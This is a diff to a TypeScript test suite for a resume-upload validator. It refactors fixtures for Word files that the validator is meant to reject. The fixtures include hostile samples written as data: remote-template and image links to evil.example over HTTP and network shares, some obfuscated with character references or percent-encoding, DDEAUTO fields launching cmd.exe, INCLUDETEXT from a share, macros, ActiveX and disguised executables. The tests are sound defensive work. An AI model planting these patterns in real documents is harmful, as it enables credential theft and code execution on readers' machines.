@@ -6,7 +6,6 @@ import {
   createDocumentWith,
   createDocxWith,
   field,
-  googleDocsResume,
   libreOfficeResume,
   pagesResume,
   wordResume,
@@ -49,7 +48,6 @@ describe("a resume's file", () => {
     ["Word for Mac", macWordResume()],
     ["Pages", pagesResume()],
     ["LibreOffice", libreOfficeResume()],
-    ["Google Docs", googleDocsResume()],
     ["a generator that writes UTF-16", utf16Resume()],
     ["a generator that writes backslashes", renamePart(pagesResume(), "word/", "word\\")],
     ["a transfer that appends zeros", Buffer.concat([wordResume(), Buffer.alloc(3_000)])],
@@ -154,6 +152,10 @@ describe("a resume's file", () => {
   const STRICT_NAMESPACE = "http://purl.oclc.org/ooxml/officeDocument/relationships";
   const MICROSOFT_NAMESPACE = "http://schemas.microsoft.com/office/2006/relationships";
   const docx = (parts: Record<string, Buffer>) => ["cv.docx", createDocxWith(parts)] as const;
+  const linked = (type: string, target: string) => docx({ [DOCUMENT]: relationships({ type, target }) });
+  const external = (type: string, target: string) => docx({ [DOCUMENT]: externalRelationship(type, target) });
+  const template = (target: string) => docx({ [SETTINGS]: externalRelationship("attachedTemplate", target) });
+  const documentOf = (content: string) => docx({ "word/document.xml": createDocumentWith(content) });
   /** Names and contents of files that are rejected, by the reason and by what they contain. */
   const REJECTED: Record<string, Record<string, readonly [name: string, bytes: Buffer]>> = {
     "The file contains an embedded object.": {
@@ -161,28 +163,20 @@ describe("a resume's file", () => {
         "cv.doc",
         sampleDoc("WordDocument", "ObjectPool/_1234/\u0001Ole10Native"),
       ],
-      "an OLE object": docx({
-        [DOCUMENT]: relationships({ type: "oleObject", target: "embeddings/oleObject1.bin" }),
-      }),
-      "an OLE object in Strict Open XML": docx({
-        [DOCUMENT]: relationships({ type: `${STRICT_NAMESPACE}/oleObject`, target: "a.bin" }),
-      }),
-      "a linked OLE object": docx({ [DOCUMENT]: externalRelationship("oleObject", "file:///C:\\a.docx") }),
+      "an OLE object": linked("oleObject", "embeddings/oleObject1.bin"),
+      "an OLE object in Strict Open XML": linked(`${STRICT_NAMESPACE}/oleObject`, "a.bin"),
+      "a linked OLE object": external("oleObject", "file:///C:\\a.docx"),
     },
     "The file contains an embedded file.": {
-      "a program as an embedded package": docx({
-        [DOCUMENT]: relationships({ type: "package", target: "embeddings/setup.exe" }),
-      }),
+      "a program as an embedded package": linked("package", "embeddings/setup.exe"),
       "an OLE file named like a picture": docx({
         "word/media/image1.png": Buffer.from("d0cf11e0a1b11ae1", "hex"),
       }),
       "a program named like a picture": docx({ "word/media/image1.png": Buffer.from("MZ\x90") }),
-      "an embedded document": docx({ [DOCUMENT]: relationships({ type: "aFChunk", target: "a.rtf" }) }),
+      "an embedded document": linked("aFChunk", "a.rtf"),
     },
     "The file contains an ActiveX control.": {
-      "an ActiveX control": docx({
-        [DOCUMENT]: relationships({ type: "control", target: "activeX/activeX1.xml" }),
-      }),
+      "an ActiveX control": linked("control", "activeX/activeX1.xml"),
       "the data of an ActiveX control": docx({
         "word/activeX/_rels/activeX1.xml.rels": relationships({
           type: `${MICROSOFT_NAMESPACE}/activeXControlBinary`,
@@ -194,29 +188,17 @@ describe("a resume's file", () => {
       "macros in a DOC": ["cv.doc", sampleDoc("WordDocument", "Macros/VBA/dir")],
       "macros in a DOCX": ["cv.docx", sampleDocx({ "word/vbaProject.bin": Buffer.alloc(9) })],
       "the content type of a document with macros": ["cv.docx", sampleDocx({}, MACRO_DOCX_TYPE)],
-      "macros in a part with another name": docx({
-        [DOCUMENT]: relationships({ type: `${MICROSOFT_NAMESPACE}/vbaProject`, target: "a.bin" }),
-      }),
+      "macros in a part with another name": linked(`${MICROSOFT_NAMESPACE}/vbaProject`, "a.bin"),
     },
     "The file would load a template from the network when opened.": {
-      "a template on a web server": docx({
-        [SETTINGS]: externalRelationship("attachedTemplate", "https://evil.example/a.dotm"),
-      }),
-      "a template on a network share": docx({
-        [SETTINGS]: externalRelationship("attachedTemplate", "\\\\evil.example\\a\\a.dotm"),
-      }),
-      "a template on a network share, with a file: URL": docx({
-        [SETTINGS]: externalRelationship("attachedTemplate", "file:///\\\\evil.example\\a.dotm"),
-      }),
-      "a template with the file: URL of another host": docx({
-        [SETTINGS]: externalRelationship("attachedTemplate", "file://evil.example/a.dotm"),
-      }),
-      "a template whose URL has a leading space and a character reference": docx({
-        [SETTINGS]: externalRelationship("attachedTemplate", " &#x68;ttps://evil.example/a.dotm"),
-      }),
-      "a template whose URL is percent-encoded": docx({
-        [SETTINGS]: externalRelationship("attachedTemplate", "file:///%5C%5Cevil.example%5Ca.dotm"),
-      }),
+      "a template on a web server": template("https://evil.example/a.dotm"),
+      "a template on a network share": template("\\\\evil.example\\a\\a.dotm"),
+      "a template on a network share, with a file: URL": template("file:///\\\\evil.example\\a.dotm"),
+      "a template with the file: URL of another host": template("file://evil.example/a.dotm"),
+      "a template whose URL has a leading space and a character reference": template(
+        " &#x68;ttps://evil.example/a.dotm",
+      ),
+      "a template whose URL is percent-encoded": template("file:///%5C%5Cevil.example%5Ca.dotm"),
       "a template in a UTF-16 part with a namespace prefix": docx({
         [SETTINGS]: Buffer.from(
           `\ufeff${externalRelationship("attachedTemplate", "http://evil.example/a")
@@ -229,12 +211,8 @@ describe("a resume's file", () => {
       }),
     },
     "The file would load a picture from the network when opened.": {
-      "a picture on a web server": docx({
-        [DOCUMENT]: externalRelationship("image", "http://evil.example/a.png"),
-      }),
-      "a picture on a network share": docx({
-        [DOCUMENT]: externalRelationship("image", "\\\\evil.example\\a.png"),
-      }),
+      "a picture on a web server": external("image", "http://evil.example/a.png"),
+      "a picture on a network share": external("image", "\\\\evil.example\\a.png"),
       "a VML drawing with a picture on a network share": docx({
         "word/header1.xml": createDocumentWith(
           '<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="\\\\evil.example\\a.png"/>',
@@ -245,39 +223,29 @@ describe("a resume's file", () => {
       "a frame with a document on a network share": docx({
         "word/_rels/webSettings.xml.rels": externalRelationship("frame", "\\\\evil.example\\a.docx"),
       }),
-      "a linked subdocument": docx({ [DOCUMENT]: externalRelationship("subDocument", "a.docx") }),
+      "a linked subdocument": external("subDocument", "a.docx"),
     },
     "The file contains a field that loads data from other programs.": {
       "a DDE field in a DOC": ["cv.doc", docWith('\u0013 DDEAUTO c:\\\\windows "calc"\u0014')],
     },
     "The file contains a field that loads data from other programs (DDEAUTO).": {
-      "a DDE field": docx({
-        "word/document.xml": createDocumentWith(
-          field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; "),
-        ),
-      }),
+      "a DDE field": documentOf(field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; ")),
     },
     "The file contains a field that loads data from other programs (DDE).": {
       "a DDE field split into pieces": docx({
         "word/footer1.xml": createDocumentWith(field(" D", "D", "<!-- -->E", " excel ")),
       }),
-      "a DDE field in a fldSimple element": docx({
-        "word/document.xml": createDocumentWith("<w:fldSimple w:instr='DDE excel \"a\"'/>"),
-      }),
+      "a DDE field in a fldSimple element": documentOf("<w:fldSimple w:instr='DDE excel \"a\"'/>"),
     },
     "The file contains a field that loads data from other programs (dde).": {
-      "a DDE field within another field": docx({
-        "word/document.xml": createDocumentWith(
-          field(' IF 1 = 1 "').replace("<w:t>shown</w:t>", field("dde excel")),
-        ),
-      }),
+      "a DDE field within another field": documentOf(
+        field(' IF 1 = 1 "').replace("<w:t>shown</w:t>", field("dde excel")),
+      ),
     },
     "The file contains a field that loads content from the network.": {
-      "a field that includes text from a network share": docx({
-        "word/document.xml": createDocumentWith(
-          field(" INCLUDETEXT &quot;\\\\\\\\evil.example\\\\a.docx&quot; "),
-        ),
-      }),
+      "a field that includes text from a network share": documentOf(
+        field(" INCLUDETEXT &quot;\\\\\\\\evil.example\\\\a.docx&quot; "),
+      ),
     },
     "The file declares XML entities, which word processors never write.": {
       "XML entities in a part": docx({
